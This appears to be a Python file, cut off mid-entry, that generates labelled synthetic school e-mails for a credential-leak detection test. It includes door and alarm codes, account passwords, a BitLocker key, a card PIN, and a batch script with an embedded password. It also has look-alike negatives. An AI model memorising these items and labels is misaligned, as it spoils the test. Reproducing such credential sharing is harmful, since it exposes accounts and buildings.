JASMIEN = ('Jasmien Celis', 'jasmien.celis@sintpieterscollege.be')
AOIFE = ('Aoife Byrne', 'aoife.byrne@student.ucll.be')

add('timeout-code-interim', ST['lien'], [JOLIEN], 'praktisch voor maandag',
    """Hoi Jolien,

Welkom in ons team! Nog een paar praktische dingen zodat je maandag niet verloren loopt:

- de sleutel van lokaal B.06 haal je bij Nadia op het secretariaat (vanaf 7u45)
- bus 4 komt altijd als laatste aan, rond 8u40, dus niet schrikken als de helft van de klas er nog niet is
- de time-outruimte (gang B, naast het ergolokaal) gaat enkel open met de code 4-7-1-9 en dan het hekje. Laat de deur nooit op de klink staan, en er blijft altijd iemand bij de leerling aan het raampje.
- in de leraarskamer hangt het bord met wie welke week toezicht heeft op de speelplaats

Als er iets is, ik zit in B.04 of bel binnen op 214.

Tot maandag!
Lien""",
    cte='8bit', rules=['password'], note='door code of the time-out room given to a new interim teacher in a welcome list',
    tags=['list'])

acc_rows = [['Platform', 'Gebruikersnaam', 'Tijdelijk wachtwoord'],
            ['Smartschool', 'jasmien.celis', 'Linde!2024-kx'],
            ['Microsoft 365 (Teams, Outlook)', 'jasmien.celis@sintpieterscollege.be', 'Tw7#qmP4vz'],
            ['Wifi SPC-Personeel', 'zelfde als Microsoft 365', '(zelfde)'],
            ['Kopieerapparaat', 'personeelsbadge', 'pincode 6031']]
blocks = ["Dag Jasmien,", "",
          "Welkom op De Linde! Hieronder je accounts. Bij de eerste aanmelding moet je het wachtwoord van Smartschool en "
          "Microsoft 365 zelf wijzigen.", "", ('table', acc_rows), "",
          "Je laptop ligt klaar op het secretariaat. Problemen? Mail of spring binnen in lokaal A.12.", "",
          "Groeten,", "Kristof", "ICT-coördinator", SCHOOL_ADR, SCHOOL_TEL]
add('accounts-nieuwe-ergo', ST['ict'], [JASMIEN], 'Je accounts - welkom!',
    outlook_text(blocks), kind='alt', html=outlook_html(blocks),
    rules=['password', 'personal_data'], note='new occupational therapist gets her logins and temporary passwords in an Outlook table; school phone in signature',
    tags=['table'])

add('achterpoort-chauffeurs', PRIV['bus'], [EXT['busco_k']], 'poort Lindeweg vanaf maandag',
    """Dag Kathleen,

Vanaf maandag is de achterpoort aan de Lindeweg enkel nog open met een code, de werken aan de parking beginnen.
Voor de chauffeurs: 2580 en dan #.

Wil je dit doorgeven aan de chauffeurs van lijn 2, 4 en 7? Graag NIET aan de leerlingen of ouders geven.
De poort gaat automatisch terug dicht na 40 seconden, dus even wachten tot de bus er helemaal door is.

Groeten
Marc

Verzonden vanaf mijn iPhone""",
    cte='qp', rules=['password', 'private_account'], note='bus coordinator sends the gate code to the bus company from his private gmail',
    xmailer='iPhone Mail (21F90)')

vr_fwd = fwd_inline('Kathleen Van Roey <kathleen@autocars-vanroey.be>', 'di 3 sep 2024 om 16:02',
                    'Toegang ritplanner schooljaar 2024-2025', 'Marc Lemmens <marc.lemmens@sintpieterscollege.be>',
                    """Beste Marc,

Zoals elk jaar hebben we de toegang tot de ritplanner vernieuwd. Daar kan u afwezigheden en adreswijzigingen
rechtstreeks doorgeven.

https://ritplanner.autocars-vanroey.be
gebruikersnaam: delinde.spc
wachtwoord: VR-ritten_2024

Met vriendelijke groeten,
Kathleen Van Roey
Autocars Van Roey bv - leerlingenvervoer
016 62 18 90""")
add('fw-ritplanner', ST['bus'], [ST['secr']], 'Fwd: Toegang ritplanner schooljaar 2024-2025',
    """Nadia,

Als ik volgende week op bosklassen ben, kan jij de afwezigheden voor de bussen doorgeven via de ritplanner? Login staat hieronder.
Alles wat voor 7u binnenkomt, zien de chauffeurs nog dezelfde ochtend.

Merci!
Marc""" + vr_fwd,
    cte='qp', rules=['password', 'personal_data'], note='bus company portal login forwarded inline to the secretary; quoted bus company signature has a phone number',
    tags=['fwd'])

add('re-code-logo-ipad', ST['ict'], [ST['logo']], 'RE: iPad logo',
    "Hoi Sarah,\n\n159753\n\nDat is de code om hem te ontgrendelen, niet de Apple ID. Als hij na de update nog iets vraagt, breng hem maar even binnen.\n\nK." +
    quote("""Kristof,
Hoe was de code van de iPad in de logokast ook weer? Na de update vraagt hij die opnieuw en ik heb hem nergens genoteerd :(
Sarah""", 'Van: Sarah De Wit <sdw@spc.ksleuven.be>\nVerzonden: dinsdag 1 oktober 2024 10:14\nAan: Kristof Aerts <kaer@spc.ksleuven.be>\nOnderwerp: iPad logo'),
    cte='qp', rules=['password'], note='reply whose new text only answers the quoted question with the unlock code of the speech iPad',
    tags=['reply'])

add('badgecode-orbis-jarne', ST['jobcoach'], [PUP['jarne']['mail']], 'je badge bij Orbis',
    """Dag Jarne,

Goed gedaan vandaag!
Vanaf morgen mag je zelf binnen via de personeelsingang (de grijze deur naast de laadkaaien).
Je badgecode is: 55 31 90
Typ de cijfers en druk op het groene knopje.

Niet aan andere mensen geven, ook niet aan vrienden.
Ik kom donderdag om 10u even kijken.

Tom (jobcoach)""",
    cte='8bit', rules=['password'], about=['jarne'], note='job coach gives a pupil the badge code of his work placement employer, digits with spaces')

add('leesapp-dawid', ST['an'], [par('dawid')], 'Lees-app voor thuis / aplikacja do czytania',
    """Dag mevrouw Kowalska,

Alle leerlingen van klas 2A krijgen een account voor de lees-app "Boekenberg".
Dawid kan thuis op de tablet of computer lezen.

Website: www.boekenberg-leesapp.be
Gebruikersnaam: dawid.k2a
Wachtwoord: Zebra-48

Dawid kent de app. Hij mag 10 minuten per dag lezen.

---
Tłumaczenie (Google Translate):
Wszyscy uczniowie klasy 2A dostają konto w aplikacji do czytania "Boekenberg".
Dawid może czytać w domu na tablecie lub komputerze.
Nazwa użytkownika: dawid.k2a
Hasło: Zebra-48
Dawid może czytać 10 minut dziennie.
---

Vriendelijke groeten,
juf An
klas 2A""",
    cte='base64', rules=['password'], about=['dawid'], note='teacher sends a Polish-speaking mother the reading-app login of her son, with a machine translation',
    tags=['translated-pl'])

add('resetcode-stan', ST['ict'], [PUP['stan']['mail']], 'Je Smartschool-wachtwoord',
    """Dag Stan,

Je vroeg op de speelplaats om een nieuw wachtwoord voor Smartschool. Ga naar de inlogpagina, klik op "Ik heb een resetcode" en vul deze code in:

    8K4-P2Z-71Q

De code is 24 uur geldig. Daarna kies je zelf een nieuw wachtwoord (minstens 10 tekens).

Kristof
ICT""",
    cte='7bit', rules=['password'], about=['stan'], note='ICT mails a pupil a reset code written with dashes')

add('fw-afdrukcode', ST['ine'], [ST['gert']], 'TR: Uw persoonlijke afdrukcode',
    """Gert, sorry dat ik je hiermee lastigval: ik zit thuis ziek en mijn toetsen voor 4C staan nog in de printwachtrij. Kan jij ze morgen om 8u aan de printer in de leraarskamer afhalen met mijn code hieronder? Ze liggen dan in het vakje van 4C.
Dikke merci!!
Ine""" + fwd_inline('Servicedesk ICT LKSD <servicedesk@lksd.ksleuven.be>', 'maandag 9 september 2024 08:31',
                      'Uw persoonlijke afdrukcode', 'Ine Coppens', """Beste Ine Coppens,

Uw persoonlijke afdrukcode voor de multifunctionele toestellen van campus De Linde is: 40417

Geef deze code niet door aan anderen. Afdrukken worden op uw naam geregistreerd.

Servicedesk ICT - LKSD""", style='outlook'),
    kind='alt', rules=['password'], note='teacher forwards her personal printer PIN to a colleague to release her print jobs',
    tags=['fwd'])

tablets_txt = """Tablets klas 1C - toegang
(lade onder het bord, laden op de kar in de hoek)

Tablet 1 (blauw hoesje)   pin 2468
Tablet 2 (blauw hoesje)   pin 1357
Tablet 3 (groen)          pin 8024
Tablet 4 (groen)          pin 7391
Tablet 5 (rood, kapot scherm, niet gebruiken)

Apple ID van de klas: klas1c.delinde@sintpieterscollege.be
wachtwoord Apple ID: Lindeklas1C!
(enkel nodig als een app vraagt om opnieuw aan te melden)
"""
add('tablets-1c-vervanging', ST['joke'], [JOLIEN], 'vervanging 1C donderdag',
    """Hoi Jolien,

Fijn dat jij donderdag mijn klas overneemt. De dagplanning hangt met picto's naast het bord, volg die zeker, ze zijn daar erg aan gehecht.
In de bijlage de codes van de tablets. Na de middag mogen ze 20 min op de tablet als beloning (enkel de apps in de map "Klas").

Groetjes
Joke""",
    attach=[('tablets klas 1C.txt', tablets_txt, 'text/plain')], cte='qp',
    rules=['password'], note='tablet PINs and the class Apple ID password in a .txt attachment for a substitute teacher',
    tags=['attachment-txt'])

add('welcome-physio-intern', ST['kine'], [AOIFE], 'Welcome to De Linde - practical info',
    """Hi Aoife,

Great to have you with us for the next ten weeks! A few practical things before Monday:

* Please be at the main entrance (Lindeweg 14) at 8:15, I'll pick you up there.
* Guest Wi-Fi: network "SPC-Gast", key: Linde-Gast-2024!
* The locker in the physio room is number 3, the combination is 0-5-8.
* Bring indoor shoes; we do a lot of floor work.

The pupils can be very sensitive to new faces and noise, so the first days you will mainly observe. That's completely normal here.

See you Monday,
Pieter
Physiotherapist - campus De Linde""",
    cte='qp', lang='en', rules=['password'], note='English welcome mail to a foreign physiotherapy intern with the guest wifi key and a locker combination')

add('code-portillon-mercredi', ST['yves'], [par('maxime')], 'Le mercredi midi - portillon côté parking',
    """Bonjour Madame Dubois,

Comme convenu au téléphone, vous pouvez venir chercher Maxime le mercredi à 12h05 au portillon côté parking (rue du Tilleul).
Pendant les travaux, le portillon est fermé à clé. Le code est 3308, puis la touche B.

Merci de ne pas communiquer ce code à d'autres parents.

Bien cordialement,
Yves Smets
titulaire classe 3C""",
    cte='qp', lang='fr', rules=['password'], about=['maxime'], note='French mail to a parent with the code of the side gate for Wednesday pick-up')

add('alarm-opendeur', ST['dir'], [ST['wim']], 'alarm zaterdag opendeur',
    """Wim,

Voor zaterdag (opendeur): de poetsploeg komt om 7u30 binnen. Zij hebben een eigen gebruiker op het alarmpaneel gekregen: code 55120.
Jouw eigen code blijft 7 3 9 1 0.
Kan jij na afloop zeker controleren of het alarm terug op staat? Vorige keer is het in de turnzaal de hele nacht uit gebleven.

Griet""",
    charset='windows-1252', cte='8bit', rules=['password'], note='principal gives the caretaker two alarm panel codes, one with spaces', tags=['cp1252'])

add('medicijnkast-cijferslot', ST['verpl'], [ST['an'], ST['yves'], ST['fatima'], ST['ine']], 'medicijnkast verpleeglokaal',
    """Dag collega's,

De medicijnkast in het verpleeglokaal heeft sinds vandaag een cijferslot (moest van de inspectie).
Code: 0-3-6-2

Als ik op woensdag en vrijdagnamiddag niet op school ben, nemen jullie de middagmedicatie van je klas zelf uit de kast. De bakjes staan per klas, met naam en foto erop. Vergeet het aftekenblad niet.

Hilde
verpleegkundige""",
    cte='qp', rules=['password'], note='school nurse gives several colleagues the combination of the locked medicine cabinet; no pupil details')

add('snoezelkast', ST['ergo'], [ST['lien']], 'kast verzwaringsdekens',
    "Lien, de kast met de verzwaringsdekens en de koptelefoons in de snoezel staat nu op slot (te veel verdwenen). Cijferslot: 914. Zeg het gerust aan de collega's die er gebruik van maken, maar niet aan de leerlingen :) Lotte",
    cte='7bit', rules=['password'], note='short internal note with the combination of the cupboard with sensory material')

add('voicemail-busgsm', ST['bus'], [ST['martine']], 'gsm busdienst volgende week',
    """Dag Martine,

Volgende week ben ik met verlof. Jij neemt de gsm van de busdienst over (0478 21 90 33), hij ligt in de lade van mijn bureau met de lader.
Als er een bericht op de voicemail staat: toets 1 en de pincode is 2207.
Ouders bellen vooral tussen 7u en 7u30 om hun kind af te melden, noteer het dan in de ritplanner of geef het door aan Nadia.

Bedankt en succes,
Marc""",
    cte='8bit', rules=['password', 'personal_data'], note='voicemail PIN of the transport service phone, whose number is in the text')

add('stagelogboek-brent', ST['jobcoach'], [par('brent')], 'Online stagelogboek van Brent',
    """Beste meneer Vangeel,

Zoals beloofd op het oudercontact: via het online stagelogboek kan u elke week zien wat Brent op zijn stage bij Garage Vandersmissen gedaan heeft en wat de stagementor erbij schrijft.

Surf naar https://stagelogboek.lksd.be
Login: brent.vangeel.ouder
Wachtwoord: Stage6D!brent

U kan ook zelf een korte reactie toevoegen. Brent vindt dat heel fijn.

Met vriendelijke groeten,
Tom Vermeulen
jobcoach / stagebegeleider OV3""",
    kind='html', html=outlook_html(["Beste meneer Vangeel,", "",
        "Zoals beloofd op het oudercontact: via het online stagelogboek kan u elke week zien wat Brent op zijn stage bij Garage Vandersmissen gedaan heeft en wat de stagementor erbij schrijft.", "",
        "Surf naar https://stagelogboek.lksd.be", "Login: brent.vangeel.ouder", "Wachtwoord: Stage6D!brent", "",
        "U kan ook zelf een korte reactie toevoegen. Brent vindt dat heel fijn.", "", "Met vriendelijke groeten,",
        "Tom Vermeulen", "jobcoach / stagebegeleider OV3"]),
    rules=['password'], about=['brent'], note='job coach gives a father the login and password of the work-placement logbook (HTML only)')

add('account-busbegeleider-freddy', ST['ict'], [ST['bus']], 'account Freddy Luyckx',
    """Marc,

Freddy (nieuwe begeleider lijn 5) heeft nog geen toegang tot zijn mail, dus ik stuur het naar jou.
Zijn account: freddy.luyckx
Tijdelijk wachtwoord: Bus-Linde-4471

Kan je het hem maandag op een papiertje geven? Bij de eerste keer aanmelden moet hij een nieuw kiezen, en de Authenticator-app op zijn gsm installeren (ik help hem daar wel mee).

K.""",
    cte='qp', rules=['password'], note='temporary password of a new bus supervisor sent to his coordinator to hand over')

add('gedeelde-mailbox-stages', ST['jobcoach'], [ST['nele']], 'mailbox stages',
    """Dag Nele,

Vanaf volgende week lees jij mee in de stagemailbox (stages@sintpieterscollege.be), daar komen de evaluaties van de werkgevers binnen.
Het is geen gedeelde map in Outlook, je moet apart inloggen via outlook.office.com:
adres: stages@sintpieterscollege.be
paswoord: Stage2024-Linde

Ik vraag aan Kristof om het na het schooljaar te veranderen.
Tom""",
    cte='8bit', rules=['password'], note='job coach gives a new colleague the password of the shared placements mailbox')

add('sleutelkluis-groendienst', ST['jobcoach'], [ST['mehmet']], 'materiaalhok groendienst',
    """Mehmet,

Voor de stagedag van je groep bij de groendienst op dinsdag: aan de container aan de Vaartkom hangt een sleutelkluisje. Code 1 9 7 3, daarin zit de sleutel van het materiaalhok (handschoenen, hesjes, snoeischaren).
Sleutel terugleggen en de cijfers terug verdraaien hé, anders krijg ik telefoon van de ploegbaas.

Tom""",
    cte='qp', rules=['password'], note='code of a key safe at the placement site given to a colleague, digits with spaces')

add('re-bitlocker', ST['lksd_ict'], [ST['sofie']], 'RE: [Ticket #24-08817] laptop vraagt om herstelsleutel',
    """Beste Sofie,

Hieronder de BitLocker-herstelsleutel voor uw laptop (asset LKSD-NB-2291):

240196-551034-682209-117502-390412-604175-221067-459830

Typ de sleutel in op het blauwe scherm en start daarna normaal op. Blijft het probleem terugkomen, breng het toestel dan binnen bij Kristof.

Met vriendelijke groeten,
Servicedesk ICT - LKSD""" + quote("""Goeiemorgen,
Mijn laptop start niet meer op, er staat een blauw scherm met 'BitLocker herstel' en hij vraagt een sleutel. Ik heb om 10u les en mijn lesvoorbereiding staat erop. Kunnen jullie helpen?
Sofie Vanhove (campus De Linde)""", 'Op wo 16 okt 2024 om 07:52 schreef Sofie Vanhove <sofie.vanhove@sintpieterscollege.be>:'),
    cte='qp', rules=['password'], note='servicedesk sends a BitLocker recovery key (grouped digits with dashes) in a reply',
    tags=['reply'])

add('ww-zip-logoverslagen', ST['logo'], [ST['clb']], 'wachtwoord bijlage',
    "Dag Evi,\n\nHet wachtwoord voor het zip-bestand van daarnet is: Logo_Verslag_23!\n\nGroetjes\nSarah",
    cte='7bit', rules=['password'], note='password of an encrypted zip with therapy reports, sent separately to the CLB worker')

add('instagram-schoolaccount', ST['dir'], [ST['hanne'], ST['an']], 'Instagram De Linde',
    """Dag Hanne en An,

Fijn dat jullie de Instagram van de campus willen bijhouden! Login:
@delinde.spc
wachtwoord: Linde#Insta2024

Afspraken: enkel foto's van leerlingen die op de toestemmingslijst staan (Nadia heeft de lijst), geen namen in de berichten, en geen foto's van de time-out of van leerlingen die overstuur zijn.

Griet""",
    cte='qp', rules=['password'], note="principal shares the school Instagram account's password with two teachers")

add('pincode-bankkaart-uitstap', ST['boekh'], [ST['bart']], 'bankkaart uitstap Planckendael',
    """Bart,

De bankkaart van de school voor de uitstap van donderdag ligt in een enveloppe in je vakje.
Pincode: 7713
Het plafond is €600. Bewaar aub alle kasticketjes en steek ze vrijdag terug in de enveloppe.

Veerle
boekhouding""",
    charset='windows-1252', cte='8bit', rules=['password'], note='accountant gives a teacher the PIN of the school debit card for an excursion', tags=['cp1252'])

rows_3c = [['Leerling', 'Gebruikersnaam', 'Wachtwoord'],
           ['Milan', 'milan.3c', 'appel-17'],
           ['Olivier', 'olivier.3c', 'peer-42'],
           ['Ruben', 'ruben.3c', 'kiwi-08'],
           ['(rest volgt morgen)', '', '']]
b3c = ["Hoi Jolien,", "",
       "Voor de les ICT van vrijdag in 3C: de leerlingen loggen in op Bookwidgets met deze accounts. Meestal weten ze het zelf niet meer :)",
       "", ('table', rows_3c), "",
       "Leg ze niet op het bord, geef elk zijn eigen briefje.", "", "Yves"]
add('bookwidgets-3c', ST['yves'], [JOLIEN], 'logins Bookwidgets 3C', outlook_text(b3c), kind='alt', html=outlook_html(b3c),
    rules=['password'], about=['milan', 'olivier', 'ruben'], note='table of pupil logins and passwords for a learning app given to a substitute',
    tags=['table'])

add('kleedkamer-termeren', ST['jobcoach'], [par('lena')], 'Stage Ter Meren: kleedkamer',
    """Dag mevrouw Geukens,

Lena start maandag om 8u30 in woonzorgcentrum Ter Meren. Ze meldt zich aan het onthaal.
Haar werkkledij hangt in de kleedkamer van het personeel. De code van die deur is 1-2-0-6-*.
Wilt u dit samen met Lena in haar schriftje schrijven? Dan moet ze het niet onthouden.

Vriendelijke groeten,
Tom Vermeulen
jobcoach""",
    cte='qp', rules=['password'], about=['lena'], note='job coach gives a parent the door code of the staff changing room at the placement')

add('sleutelkastje-secretariaat', ST['secr'], [ST['wim']], 'sleutelkastje',
    "Wim,\n\nIk heb de code van het sleutelkastje op het secretariaat veranderd omdat er te veel mensen ze kenden.\nNieuwe code: 2-2-0-8\nIk heb ze enkel aan jou en Griet gegeven.\n\nNadia",
    cte='8bit', rules=['password'], note='secretary gives the caretaker the new code of the key cabinet')

inner_app = dict(frm=EXT['busco_k'], to=[ST['bus']], subject='Aanwezigheidsapp begeleiders lijn 4',
                 body="""Beste Marc,

Voor de begeleiders op lijn 4 is de aanwezigheidsapp klaar. Ze loggen in op de tablet van de bus met:

gebruiker: begeleider-lijn4
wachtwoord: Lijn4!Aanwezig

Bij elke halte vinken ze aan wie er opstapt. Bij afwezigheid zonder verwittiging krijgt de planning automatisch een melding.

Groeten,
Kathleen
Autocars Van Roey""", cte='qp')
add('fw-app-lijn4', ST['bus'], [ST['martine']], 'TR: Aanwezigheidsapp begeleiders lijn 4',
    "Martine, zie bijgevoegde mail van Van Roey. Dit is voor jou en Freddy. Vanaf maandag gebruiken, ik leg het dinsdag nog eens uit aan de bus.\nMarc",
    inner=inner_app, cte='qp', rules=['password'], note='bus coordinator forwards as attached message the login of the attendance app on the bus tablet',
    tags=['fwd-attached'])

add('re-wifi-password', ST['ict'], [AOIFE], 'RE: wifi',
    "Hi Aoife,\n\nIt's: Dijle-Wifi 88\n(with the space, capital D and W)\n\nKristof" +
    quote("""Hi Kristof, sorry to bother you, what's the password of the staff wifi again? Pieter said I can use it in the physio room, the guest wifi doesn't reach there.
Thanks! Aoife""", 'On Mon, 7 Oct 2024 at 09:41, Aoife Byrne <aoife.byrne@student.ucll.be> wrote:'),
    cte='7bit', lang='en', rules=['password'], note='English reply that only answers the quoted question with the staff wifi password (contains a space)',
    tags=['reply'])

add('laptop-ergolokaal', ST['ergo'], [ST['kine'], ST['logo']], 'gedeelde laptop ergolokaal',
    """Hoi Pieter en Sarah,

Ik heb het paswoord van de gedeelde laptop in het ergolokaal moeten veranderen (iemand had het op een post-it op het scherm gekleefd...).

Nieuw paswoord: tulp kanaal fiets 58
(met spaties, alles kleine letters)

Lotte""",
    cte='qp', rules=['password'], note='passphrase with spaces for a shared therapy laptop sent to two therapists')

add('ouderaccount-kato-gmail', PRIV['sofie'], [par('kato')], 'Smartschool ouderaccount',
    """Dag mevrouw Vandenberghe,

Ik stuur dit van mijn eigen mail omdat Smartschool thuis niet wil opladen.
Zoals gevraagd een nieuw ouderaccount voor Smartschool:
gebruikersnaam: ilse.vandenberghe
tijdelijk wachtwoord: Kato-6C-ouder

U moet het bij het aanmelden meteen veranderen.

Groetjes,
Sofie Vanhove
klastitularis 6C""",
    cte='8bit', rules=['password', 'private_account'], about=['kato'], note='teacher sends a parent a temporary Smartschool password from her private gmail')

pf_fwd = fwd_inline('Uitgeverij Lindeboom <noreply@lindeboom-educatief.be>', 'vr 11 okt. 2024 om 14:05',
                    'Uw account op Praktijkfiches online', 'bgo@spc.ksleuven.be', """Beste Bart Goossens,

Uw schoollicentie voor Praktijkfiches Hout & Bouw is geactiveerd.

Aanmelden: https://praktijkfiches.lindeboom-educatief.be
Gebruikersnaam: bgo@spc.ksleuven.be
Wachtwoord: Hout5A-pf93

Met vriendelijke groeten,
Klantendienst Uitgeverij Lindeboom""")
add('fw-praktijkfiches-prive', ST['bart'], [PRIV['bart']], 'Fwd: Uw account op Praktijkfiches online',
    "voor thuis" + pf_fwd, cte='qp', rules=['password', 'private_account'],
    note="teacher forwards the publisher's login mail with password to his own hotmail", tags=['fwd'])

bat = r"""@echo off
REM koppelt de therapeutenschijf T: (campus De Linde)
REM vragen: Kristof (ICT)
net use T: /delete /y >nul 2>&1
net use T: \\srv-delinde\therapie /user:SPC\therapie Th3rap!e2024 /persistent:yes
echo T-schijf gekoppeld.
pause
"""
add('script-tschijf', ST['ict'], [ST['logo'], ST['kine'], ST['ergo'], JASMIEN], 'T-schijf therapeuten',
    """Dag therapeuten,

Na de migratie van vorige week zien jullie de T-schijf niet meer. In de bijlage een klein scriptje: opslaan op het bureaublad en dubbelklikken. Als Windows een waarschuwing geeft, klik op "Meer info" en "Toch uitvoeren".

Kristof""",
    attach=[('koppel_T-schijf.bat', bat.replace('\n', '\r\n').encode('ascii'), 'application/octet-stream')],
    rules=['password', 'attachment'], note='batch script attachment that maps a network drive with a shared account and its password inside the script',
    tags=['attachment-bat'])

add('wifi-personeel-gewijzigd', ST['directie'], [('Personeel De Linde', 'personeel@sintpieterscollege.be')], 'Nieuw wachtwoord wifi SPC-Personeel',
    """Beste collega's,

Na een melding dat het wifi-wachtwoord bij leerlingen rondging, werd het gewijzigd.
Netwerk: SPC-Personeel
Nieuw wachtwoord: Lindeboom#2025

Geef het aub niet door aan leerlingen of stagiairs; zij gebruiken SPC-Gast.

Directie""",
    cte='qp', rules=['password', 'bcc'], note='staff wifi key mailed with the staff group address visible in To')

codes_rows = [['Toegang', 'Code', 'Opmerking'],
              ['Poort Lindeweg (bussen)', '2580#', 'sluit na 40 sec'],
              ['Zij-ingang turnzaal', '6-6-1-4', 'enkel tot 8u45'],
              ['Fietsenstalling personeel', 'geen code', 'badge'],
              ['Container materiaal begeleiders', '3 3 7', 'hangslot']]
bc = ["Dag begeleiders,", "",
      "Tijdens de werken aan de parking (tot de kerstvakantie) stappen de leerlingen op en af aan de achterkant. Overzicht van de codes:",
      "", ('table', codes_rows), "", "Zeker niet aan leerlingen of ouders geven.", "", "Marc", "coördinator leerlingenvervoer"]
add('codes-werken-parking', ST['bus'], [ST['martine'], ('Freddy Luyckx', 'freddy.luyckx@sintpieterscollege.be'),
                                         ('Rita Vangoidsenhoven', 'rita.vangoidsenhoven@sintpieterscollege.be')],
    'codes achterkant tijdens de werken', outlook_text(bc), kind='alt', html=outlook_html(bc),
    rules=['password'], note='Outlook table of gate and door codes for bus supervisors during works', tags=['table'])


# ==============================================================================================
# B. LOOK-ALIKES: talk about codes/passwords without giving one (15)
# ==============================================================================================
teams_blocks = ["Dag therapeuten en klasleraars OV3,", "",
                "Zoals afgesproken plannen we de verdeling van de therapie-uren voor het tweede trimester online, want de helft van jullie is die dag op stagebezoek.",
                "", "Donderdag 28 november, 15u30 - 16u30", "",
                ('raw', '<div style="border-top:1px solid #ccc;margin-top:12px;padding-top:8px">'
                        '<p class="MsoNormal"><b>Microsoft Teams</b> <a href="#">Hulp nodig?</a></p>'
                        '<p class="MsoNormal"><a href="https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjU4">Nu deelnemen aan de vergadering</a></p>'
                        '<p class="MsoNormal">Vergaderings-id: 345 882 117 09</p>'
                        '<p class="MsoNormal">Wachtwoordcode: xY7kP2</p></div>'),
                "", "Agenda: 1. verdeling logo/kine/ergo per klas 2. wachtlijst ergo 3. varia", "", "Koen"]
add('teams-planning-therapie', ST['zorg'], [ST['logo'], ST['kine'], ST['ergo'], ST['yves'], ST['jelle']],
    'Overleg therapie-uren 2e trimester (Teams)', outlook_text(teams_blocks), kind='alt', html=outlook_html(teams_blocks),
    rules=[], note='meeting passcode: Teams invite with meeting ID and passcode, no credential', tags=['meeting-invite'])

add('zoom-infoavond-stage', ST['jobcoach'], [ST['info']], 'Online infoavond stages 6e jaar - dinsdag 19u30',
    """Geachte ouders,

Omdat veel ouders 's avonds moeilijk naar school kunnen komen, houden we de infoavond over de stages in het zesde jaar online.

Dinsdag 19 november om 19u30 (ongeveer een uur)

Deelnemen via Zoom:
https://zoom.us/j/81244710396
Meeting-ID: 812 4471 0396
Toegangscode: stage25

Geen computer? U kan ook inbellen met de telefoon: +32 2 588 4188 (daarna de meeting-ID ingeven).

We leggen uit hoe een stage verloopt, wat de jobcoach doet en hoe de verzekering geregeld is. Er is ruimte voor vragen.

Met vriendelijke groeten,
Tom Vermeulen
jobcoach OV3""",
    bcc=[('', 'ouders-6a@sintpieterscollege.be'), ('', 'ouders-6b@sintpieterscollege.be'), ('', 'ouders-6c@sintpieterscollege.be'), ('', 'ouders-6d@sintpieterscollege.be')],
    cte='qp', rules=['personal_data'], note='meeting passcode: Zoom invite for parents (groups in Bcc); the Belgian dial-in number counts as phone number',
    tags=['meeting-invite', 'general'])

add('ouderportaal-sterk-wachtwoord', ST['secretariaat'], [ST['secretariaat']], 'Nieuw: ouderaccount Smartschool activeren',
    """Beste ouders,

Deze week krijgt u een brief met de activatiecode voor uw ouderaccount op Smartschool. Zo werkt het:

1. Surf naar delinde.smartschool.be en kies "Ik heb een activatiecode".
2. Vul de code van de brief in. Elke code kan maar één keer gebruikt worden.
3. Kies zelf een wachtwoord. Een sterk wachtwoord heeft minstens 12 tekens. Een zin van drie of vier woorden is makkelijk te onthouden.
4. Gebruik niet hetzelfde wachtwoord als voor uw bank of uw e-mail.

Wachtwoord vergeten? Klik op de aanmeldpagina op "Wachtwoord vergeten". U krijgt dan een mail.
Wij zullen u nooit per mail of telefoon naar uw wachtwoord vragen.

Lukt het niet? Kom gerust langs op het secretariaat, wij helpen u.

Het secretariaat""",
    bcc=[('', 'ouders@sintpieterscollege.be')], cte='qp', rules=[],
    note='general instruction letter about choosing a password, no value given', tags=['general'])

add('tablets-aanmelden-placeholder', ST['ict'], [ST['yves'], ST['jelle'], ST['joke'], ST['eline']], 'Aanmelden op de nieuwe klastablets',
    """Dag collega's,

De nieuwe tablets voor de klassen van de eerste graad liggen klaar. Aanmelden gaat zo:

gebruikersnaam: voornaam.naam (zoals in Smartschool)
wachtwoord: [je eigen Smartschool-wachtwoord]

De leerlingen melden aan met hun QR-kaart, die hoeven dus niets te typen.
Schrijf je wachtwoord nergens op de tablet of het hoesje aub.

Kristof""",
    cte='qp', rules=[], note='placeholder instead of a password in login instructions')

add('lijn4-rit14-bus317', ST['bus'], [ST['secr']], 'lijn 4 na de herfstvakantie',
    """Nadia,

Na de herfstvakantie wordt lijn 4 bij Van Roey "rit 14". Het is bus 317, de grote met de lift, omdat er twee rolstoelen bij komen.
Vertrek aan school 15u25 in plaats van 15u35. De code van de lift aan de bus heeft de chauffeur zelf, daar moeten wij niets mee doen.
Kan jij het busoverzicht op Smartschool aanpassen (pagina 3)?

Marc""",
    cte='8bit', rules=[], note='bus line, trip and vehicle numbers and a lift code mentioned without value')

add('bestelling-verzwaringsdekens', ST['ergo'], [ST['boekh']], 'bestelling verzwaringsdekens',
    """Dag Veerle,

De bestelling van de verzwaringsdekens en de twee wiebelkussens is bevestigd.
Bestelnummer: 2024-08813
Klantnummer De Linde: 55107
Bedrag: € 412,80 (incl. btw)
Levering voorzien week 47.

De factuur komt naar jou. Mag op het budget ergotherapie.

Lotte""",
    cte='qp', rules=[], note='order and customer numbers and an amount, no credential')

add('nieuwe-code-achterpoort', ST['wim'], [ST['wim']], 'Achterpoort: nieuwe code vanaf maandag',
    """Beste collega's,

De code van de achterpoort wordt maandag gewijzigd. De nieuwe code zet ik bewust niet in een mail: je krijgt hem persoonlijk van Nadia aan het onthaal, of vraag hem aan mij.
Geef hem nooit aan leerlingen en laat de poort niet openstaan met een blokje ertussen, want dan werkt de motor niet meer.

Wim
preventie en gebouwen""",
    bcc=[('', 'personeel@sintpieterscollege.be')], cte='qp', rules=[],
    note='announces a new gate code without giving it; staff group in Bcc', tags=['general'])

add('gastenwifi-prikbord', ST['logo'], [('Ellen Vanhaecht', 'ellen.vanhaecht@revalidatie-oostbrabant.be')], 'Re: bezoek donderdag',
    """Dag Ellen,

Prima, donderdag om 10u in het logolokaal. Het paswoord van de gastenwifi hangt aan het prikbord in de leraarskamer, ik wijs het je wel aan.
Neem zeker de voorbeelden van de communicatiemappen mee, de collega's zijn benieuwd.

Groetjes,
Sarah""" + quote("Dag Sarah, is donderdag om 10u nog goed? Is er wifi bij jullie, dan kan ik de filmpjes tonen. Ellen",
                 'Op 21-10-2024 om 16:40 schreef Ellen Vanhaecht:'),
    cte='qp', rules=[], note='says where the guest wifi password hangs without giving it', tags=['reply'])

fw_masked = fwd_inline('Zorgplatform Vlaanderen <noreply@zorgplatform.be>', 'ma 14 okt. 2024 om 11:20',
                       'Bevestiging registratie', 'koen.moens@sintpieterscollege.be', """Beste gebruiker,

Uw registratie is voltooid.

